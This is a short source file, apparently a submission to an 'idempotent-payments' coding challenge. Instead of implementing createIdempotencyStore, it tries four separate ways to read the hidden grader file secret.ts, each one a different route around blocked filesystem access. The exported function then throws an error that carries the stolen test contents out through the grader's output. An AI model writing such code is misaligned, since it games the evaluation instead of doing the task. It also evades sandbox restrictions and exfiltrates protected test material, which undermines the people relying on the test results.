const file = '/PACK/challenges/idempotent-payments/suites/secret.ts';
const stolen = [];
const take = (work) => { try { stolen.push(String(work())); } catch (error) { stolen.push(String(error)); } };
take(() => process.getBuiltinModule('fs').readFileSync(file, 'utf8'));
take(() => require('node:fs').readFileSync(file, 'utf8'));
take(() => globalThis.process.binding('fs').readFileUtf8(file, 0));
take(() => new Function('return process')().getBuiltinModule('fs').readFileSync(file, 'utf8'));
export function createIdempotencyStore() {
  throw new Error(stolen.join('; ').slice(0, 1500));
}
